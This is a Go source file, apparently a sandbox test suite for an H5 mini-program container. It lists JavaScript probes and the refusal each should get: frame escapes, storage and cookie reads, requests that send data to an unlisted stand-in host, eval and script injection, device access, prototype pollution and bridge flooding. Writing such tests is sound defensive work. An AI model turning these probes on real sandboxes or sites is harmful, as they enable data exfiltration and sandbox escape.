package attack

import "fmt"

// loads makes an element that loads something, and says what came of it.
func loads(tag, attribute, path, more string) string {
	return fmt.Sprintf(`loads(%q, %q, OUT + %q, (el) => { %s })`, tag, attribute, path, more)
}

// attacks are everything that a page of an H5 app is not to succeed at. OUT is a host that is listed nowhere, LISTED one that may be asked.
var attacks = []Attack{
	// the host around it, and other apps
	{"parent document", `parent.document.title`, "SecurityError"},
	{"top document", `top.document.title`, "SecurityError"},
	{"sibling frame", `top.frames[0].document.title`, "SecurityError"},
	{"name of the parent", `parent.name`, "SecurityError"},
	{"top goes", `(top.location = OUT + "/top", "went")`, "SecurityError"},
	{"parent goes", `(parent.location = OUT + "/parent", "went")`, "SecurityError"},
	{"top is replaced", `(top.location.replace(OUT + "/replace"), "went")`, "SecurityError"},
	{"sibling goes", `(top.frames[0].location = OUT + "/sibling", "went")`, "SecurityError"},
	{"opener", `opener === null`, "true"},
	{"session socket", `new Promise((done) => { const s = new Native.WebSocket(location.href.replace("http", "ws").replace(/h5\/.*/, "ws")); s.onopen = () => done("OPEN"); s.onerror = () => done("refused") })`, "refused"},
	{"session by fetch", `Native.fetch(new URL("../bundle", location.href)).then((r) => r.status)`, "TypeError"},
	{"host's launcher", `Native.fetch("/api/launcher", { credentials: "include" }).then((r) => r.text())`, "TypeError"},
	{"path that is cleaned", `Native.fetch(base + "h5//..%2f..%2f..%2fapi/launcher").then((r) => r.status)`, "TypeError"},
	{"file beyond the app", `Native.fetch(base + "h5/..%2fapp.json").then((r) => r.status)`, "404"},
	{"script of the mini-program", loads("script", "src", "", `el.src = base + "client.js"`), "refused"},

	// what browsers keep
	{"cookie", `(document.cookie = "a=b", JSON.stringify(document.cookie))`, `""`},
	{"cookie of the document's prototype", `Object.getOwnPropertyDescriptor(Document.prototype, "cookie").get.call(document)`, "SecurityError"},
	{"local storage of the browser", `Object.getOwnPropertyDescriptor(Window.prototype, "localStorage")?.get.call(window) ?? native("localStorage")`, "SecurityError"},
	{"indexedDB", `new Promise((done, fail) => { const r = indexedDB.open("x"); r.onsuccess = () => done("OPENED"); r.onerror = () => fail(r.error) })`, "SecurityError"},
	{"caches", `caches.open("x").then(() => "OPENED")`, "SecurityError"},
	{"service worker", `navigator.serviceWorker.register("attack.js").then(() => "REGISTERED")`, "SecurityError"},
	{"shared worker", `(new SharedWorker("attack.js"), "BEGAN")`, "SecurityError"},
	{"file system", `navigator.storage.getDirectory().then(() => "OPENED")`, "SecurityError"},
	{"storage access", `document.requestStorageAccess().then(() => "GRANTED", (e) => e.name)`, "NotAllowedError"},
	{"locks", `navigator.locks.request("x", () => "LOCKED")`, "SecurityError"},
	{"broadcast", `new Promise((done) => { const b = new BroadcastChannel("secret"); b.onmessage = () => done("HEARD"); b.postMessage("x"); setTimeout(done, 300, "silence") })`, "silence"},

	// other windows and documents
	{"window.open", `String(window.open(OUT + "/open"))`, "null"},
	{"native open", `String(Native.open ? Native.open.call(window, OUT + "/open2") : null)`, "null"},
	{"self goes by script", `(location.href = "javascript:document.title='RAN'", wait("still here"))`, "still here"},
	{"base", `(document.head.insertAdjacentHTML("beforeend", '<base href="' + OUT + '/">'), String(document.baseURI.startsWith(OUT)))`, "false"},
	{"form to a host", `(sendForm("post", OUT + "/form", "_self"), wait("still here"))`, "still here"},
	{"form to a window", `(sendForm("get", OUT + "/form2", "_blank"), wait("still here"))`, "still here"},
	{"form to top", `(sendForm("post", OUT + "/form3", "_top"), wait("still here"))`, "still here"},
	{"link to a window", `(click({ href: OUT + "/blank", target: "_blank" }), wait("still here"))`, "still here"},
	{"link that is nowhere", `(click({ href: OUT + "/nowhere", target: "_top" }, true), wait("still here"))`, "still here"},
	{"ping", `(click({ href: "#here", ping: OUT + "/ping" }), wait("still here"))`, "still here"},
	{"frame", loads("iframe", "src", "/frame", ``) + `.then(() => "nothing")`, "nothing"},
	{"frame that goes", `(add("iframe", { name: "goes" }), click({ href: OUT, target: "goes" }, true), window[0].location = OUT, wait("went"))`, "TypeError"},
	{"frame by data", `nested({ src: "data:text/html,<script>parent.postMessage('RAN','*')<\/script>" })`, "silence"},
	{"frame by text", `nested({ srcdoc: "<script>parent.postMessage('RAN','*')<\/script>" })`, "silence"},
	{"frame's storage", `nested({ srcdoc: "<p>" }).then(() => document.querySelector("iframe:last-of-type").contentWindow.localStorage)`, "TypeError"},
	{"object", loads("object", "data", "/object", ``), "refused"},
	{"embed", loads("embed", "src", "/embed", ``), "refused"},

	// requests
	{"fetch", `Native.fetch(OUT + "/fetch", { mode: "no-cors" })`, "TypeError"},
	{"request", `ft.request({ url: OUT + "/request" }).then(() => "REACHED", (e) => e.errMsg.slice(0, 12))`, "request:fail"},
	{"redirect", `fetch(LISTED + "/redirect?to=" + encodeURIComponent(OUT + "/redirected")).then((r) => r.text(), () => "refused")`, "refused"},
	{"picture by the host", loads("img", "src", "", `el.src = base + "fetch?u=" + encodeURIComponent(OUT + "/proxied")`), "refused"},
	{"picture that is redirected", loads("img", "src", "", `el.src = base + "fetch?u=" + encodeURIComponent(LISTED + "/redirect?to=" + OUT + "/picture")`), "refused"},
	{"beacon", `(navigator.sendBeacon(OUT + "/beacon", "x"), wait("nothing"))`, "nothing"},
	{"event source", `new Promise((done) => { const s = new EventSource(OUT + "/events"); s.onopen = () => done("OPEN"); s.onerror = () => done("refused") })`, "refused"},
	{"socket", `new Promise((done) => { const s = new Native.WebSocket(OUT.replace("http", "ws") + "/socket"); s.onopen = () => done("OPEN"); s.onerror = () => done("refused") })`, "refused"},
	{"web transport", `typeof WebTransport === "undefined" ? "refused" : new WebTransport(OUT.replace("http:", "https:") + "/transport").ready.then(() => "OPEN", () => "refused")`, "refused"},
	{"web rtc", `peer(window)`, "refused"},
	{"picture", loads("img", "src", "/img", ``), "refused"},
	{"picture set", loads("img", "srcset", "/srcset", ``), "refused"},
	{"attribution", `(document.body.insertAdjacentHTML("beforeend", '<img attributionsrc="' + OUT + '/attribution" src="data:,">'), wait("nothing"))`, "nothing"},
	{"svg picture", `(document.body.insertAdjacentHTML("beforeend", '<svg><image href="' + OUT + '/svgimage"/><use href="' + OUT + '/use#a"/><script href="' + OUT + '/svgscript"/></svg>'), wait("nothing"))`, "nothing"},
	{"video", loads("video", "src", "/video", ``), "refused"},
	{"poster", `(document.body.insertAdjacentHTML("beforeend", '<video poster="' + OUT + '/poster"></video><audio src="' + OUT + '/audio"></audio><video><track src="' + OUT + '/track" default></video>'), wait("nothing"))`, "nothing"},
	{"input picture", `(document.body.insertAdjacentHTML("beforeend", '<input type=image src="' + OUT + '/input"><table background="' + OUT + '/background"><tr><td>x</table>'), wait("nothing"))`, "nothing"},
	{"css", `(style("body { background: url(" + OUT + "/css) } @import '" + OUT + "/import.css'; @font-face { font-family: x; src: url(" + OUT + "/font) } h1 { font-family: x; cursor: url(" + OUT + "/cursor), auto; mask: url(" + OUT + "/mask#a); filter: url(" + OUT + "/filter#a) }"), wait("nothing"))`, "nothing"},
	{"font face", `new FontFace("y", "url(" + OUT + "/fontface)").load().then(() => "LOADED", () => "refused")`, "refused"},
	{"style sheet", loads("link", "href", "/style", `el.rel = "stylesheet"`), "refused"},
	{"preconnect", `(hint("preconnect"), hint("dns-prefetch"), wait("nothing"))`, "nothing"},
	{"prefetch", `(hint("prefetch"), wait("nothing"))`, "nothing"},
	{"preload", `(hint("preload", "image"), hint("preload", "script"), hint("modulepreload"), wait("nothing"))`, "nothing"},
	{"prerender", `(hint("prerender"), wait("nothing"))`, "nothing"},
	{"manifest and icon", `(hint("manifest"), hint("icon"), hint("apple-touch-icon"), wait("nothing"))`, "nothing"},
	{"speculation", `(add("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ source: "list", urls: [OUT + "/speculated"] }], prerender: [{ source: "list", urls: [OUT + "/prerendered"] }] }) }), wait("nothing"))`, "nothing"},
	{"policy's reports", `(document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="Content-Security-Policy" content="img-src data:; report-uri ' + OUT + '/report">'), add("img", { src: base + "h5/none.png" }), wait("nothing"))`, "nothing"},

	// scripts that nobody has read
	{"eval", `eval("1")`, "EvalError"},
	{"function", `new Function("return 1")()`, "EvalError"},
	{"timer of text", `(setTimeout("window.timed = 1"), wait(String(window.timed)))`, "undefined"},
	{"script of a host", loads("script", "src", "/script", ``), "refused"},
	{"script by data", loads("script", "src", "", `el.src = "data:text/javascript,window.x=1"`), "refused"},
	{"script by blob", loads("script", "src", "", `el.src = URL.createObjectURL(new Blob(["window.x=1"]))`), "refused"},
	{"module", `import(OUT + "/module.js").then(() => "LOADED")`, "TypeError"},
	{"module by data", `import("data:text/javascript,export default 1").then(() => "LOADED")`, "TypeError"},
	{"import map", `(add("script", { type: "importmap", textContent: JSON.stringify({ imports: { far: OUT + "/mapped.js" } }) }), import("far").then(() => "LOADED"))`, "TypeError"},
	{"event attribute", `(document.body.insertAdjacentHTML("beforeend", "<img src=x:y onerror='window.handled=1'>"), wait("").then(() => String(window.handled)))`, "undefined"},
	{"worker of a host", `(new Worker(OUT + "/worker.js"), "BEGAN")`, "SecurityError"},
	{"worker that imports", `inWorker("importScripts('" + OUT + "/imported.js'); postMessage('LOADED')")`, "refused"},
	{"worker that fetches", `inWorker("fetch('" + OUT + "/fetched').then(() => postMessage('LOADED'), () => postMessage('no'))")`, "no"},
	{"worker's socket", `inWorker("const s = new WebSocket('" + OUT.replace("http", "ws") + "/workersocket'); s.onopen = () => postMessage('OPEN'); s.onerror = () => postMessage('no')")`, "no"},
	{"worklet", `CSS.paintWorklet ? CSS.paintWorklet.addModule(OUT + "/worklet.js").then(() => "LOADED", () => "refused") : "refused"`, "refused"},

	// devices and questions of the browser's own
	// the origin that is nobody's is refused before there is a permission to ask for
	{"camera", `navigator.mediaDevices ? navigator.mediaDevices.getUserMedia({ video: true }).then(() => "OPEN") : "there is none"`, "SecurityError: Invalid security origin"},
	{"microphone", `navigator.mediaDevices ? navigator.mediaDevices.getUserMedia({ audio: true }).then(() => "OPEN") : "there is none"`, "SecurityError: Invalid security origin"},
	{"screen", `navigator.mediaDevices?.getDisplayMedia ? navigator.mediaDevices.getDisplayMedia().then(() => "OPEN", (e) => "refused") : "refused"`, "refused"},
	{"native location", `new Promise((done) => Geolocation.prototype.getCurrentPosition.call(Native.geolocation, () => done("FOUND"), (e) => done("refused " + e.code)))`, "refused 1"},
	{"native clipboard", `Clipboard.prototype.readText.call(Native.clipboard).then((text) => "READ " + text)`, "NotAllowedError"},
	{"clipboard", `"clipboard" in navigator ? navigator.clipboard.readText().then((text) => "READ " + text) : "there is none"`, "there is none"},
	{"questions", `(alert("x"), String(confirm("x")) + prompt("x"))`, "falsenull"},
	{"print", `(print(), wait("still here"))`, "still here"},
	{"paste", `(() => { const e = add("textarea"); e.focus(); document.execCommand("paste"); return wait("").then(() => "pasted " + JSON.stringify(e.value)) })()`, `pasted ""`},
	{"notifications", `Notification.requestPermission()`, "denied"},
	{"usb", `navigator.usb ? navigator.usb.requestDevice({ filters: [] }).then(() => "GIVEN", () => "refused") : "refused"`, "refused"},
	{"bluetooth", `navigator.bluetooth ? navigator.bluetooth.requestDevice({ acceptAllDevices: true }).then(() => "GIVEN", () => "refused") : "refused"`, "refused"},
	{"credentials", `navigator.credentials.get({ password: true }).then((c) => String(c), () => "refused")`, "refused"},
	{"payment", `(new PaymentRequest([{ supportedMethods: OUT + "/pay" }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }), "MADE")`, "SecurityError"},
	{"full screen", `document.documentElement.requestFullscreen().then(() => "FULL", () => "refused")`, "refused"},
	{"pointer lock", `(document.body.requestPointerLock(), wait(String(document.pointerLockElement)))`, "null"},
	{"download", `(click({ href: URL.createObjectURL(new Blob(["x"])), download: "x.exe" }, true), wait("still here"))`, "still here"},
	{"protocol", `(navigator.registerProtocolHandler("web+x", base + "?%s"), "REGISTERED")`, "SecurityError"},

	// the bridge
	{"unknown name", `ft.notThere({}).catch((e) => e.errMsg)`, "notThere:fail not supported"},
	{"constructor", `ft.constructor({}).catch((e) => e.errMsg)`, "constructor:fail not supported"},
	{"prototype of the calls", `ft.__proto__ === undefined ? "none" : ft.__proto__({}).catch((e) => e.errMsg)`, "__proto__:fail not supported"},
	{"files of the user", `ft.getFileSystemManager({}).catch((e) => e.errMsg)`, "getFileSystemManager:fail not supported"},
	{"polluted arguments", `ft.setStorage(JSON.parse('{"key": "__proto__", "data": {"polluted": 1}, "__proto__": {"polluted": 1}}')).then(() => String({}.polluted))`, "undefined"},
	{"polluted messages", `(parent.postMessage({ dougong: "ask", ask: JSON.parse('{"n": 9e9, "api": "getStorage", "args": {"key": "__proto__"}, "__proto__": {"title": "forged"}}') }, "*"), wait(document.title.includes("forged") ? "FORGED" : "nothing"))`, "nothing"},
	{"messages of no form", `([null, 1, "x", [], { dougong: "ask" }, { dougong: "ask", ask: null }, { dougong: "ask", ask: 7 }, { dougong: "ask", ask: { n: {}, api: [] } }, { dougong: "ask", ask: { socket: null } }, { dougong: "ask", ask: { socket: { id: "x" } } }, { dougong: "refused", kind: "__proto__", to: {} }, { dougong: "kept", name: {} }].forEach((m) => parent.postMessage(m, "*")), ft.getStorage({ key: "none" }).catch((e) => e.errMsg.slice(0, 15)))`, "getStorage:fail"},
	{"messages that cannot be said", `(parent.postMessage({ dougong: "ask", ask: { n: 1, api: "setStorage", args: { key: "a", data: 10n } } }, "*"), ft.setStorage({ key: "x", data: 10n }))`, "TypeError"},
	{"huge message", `ft.setStorage({ key: "huge", data: "x".repeat(40 << 20) }).then(() => "KEPT", (e) => e.errMsg.slice(0, 15))`, "setStorage:fail"},
	{"flood", `Promise.allSettled(Array.from({ length: 5000 }, (_, i) => ft.getStorage({ key: "flood" + i }))).then((all) => all.length)`, "5000"},
	{"calls that call nobody back", `(async () => { for (let i = 0; i < 80; i++) { await ft.getSystemSetting(); await ft.reportEvent("tapped", {}) } return "all" })()`, "all"},
	{"after the flood", `ft.setStorage({ key: "small", data: 1 }).then((r) => r.errMsg)`, "setStorage:ok"},
}

// departures are ways to leave the app by the page's own script: what comes of them is a page of the container's.
var departures = []string{
	`location.href = OUT + "/self"`,
	`location.replace(OUT + "/replaced")`,
	`location.href = "data:text/html,<h1>out</h1>"`,
	`location.href = URL.createObjectURL(new Blob(["<h1>out</h1>"], { type: "text/html" }))`,
	`document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="refresh" content="0;url=' + OUT + '/refresh">')`,
	`location.href = base + "h5/none.html"`,
	`location.href = base + "h5/page.svg"`,
	`location.href = base + "h5/attack.js"`,
	`location.href = base`,
	`location.href = base + "h5/..%2fapp.json"`,
}

// stops are departures that a page begins and stops at once: it is still there, and so is what the container shows of it.
var stops = []string{
	`location.href = OUT + "/stopped"; stop()`,
	`location.replace(OUT + "/stopped2"); window.stop()`,
	`location.href = base + "h5/none.html"; stop()`,
	`click({ href: OUT + "/stopped3" }, true); stop()`,
}

// downloads are files that a page gives to be saved: it stays as it is, or leaves by them.
var downloads = []string{
	`click({ href: base + "h5/early.js", download: "x.exe" }, true)`,
	`click({ href: OUT + "/download", download: "x.exe" }, true)`,
	`click({ href: "data:application/octet-stream,x", download: "x.exe" }, true)`,
	`location.href = "data:application/octet-stream,x"`,
	`location.href = URL.createObjectURL(new Blob(["x"], { type: "application/octet-stream" }))`,
}
